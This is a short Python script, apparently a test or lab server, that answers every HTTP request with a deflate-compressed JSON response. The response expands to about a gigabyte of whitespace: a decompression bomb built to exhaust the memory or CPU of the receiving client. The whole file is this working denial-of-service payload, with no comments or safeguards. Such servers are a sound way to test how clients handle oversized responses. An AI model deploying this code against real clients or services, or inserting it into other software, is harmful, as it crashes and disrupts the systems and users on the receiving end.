import os
import socket
import threading
import zlib

packer = zlib.compressobj(9)
PIECE = packer.compress(b"[" + b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
MORE = packer.compress(b" " * (1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)
listener = socket.create_server(("", int(os.environ["PORT"])))


def serve(connection):
    connection.recv(65536)
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
    connection.sendall(b"Content-Encoding: deflate\r\nConnection: close\r\n\r\n" + PIECE)
    for _ in range(64):
        connection.sendall(MORE)
    connection.close()


while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
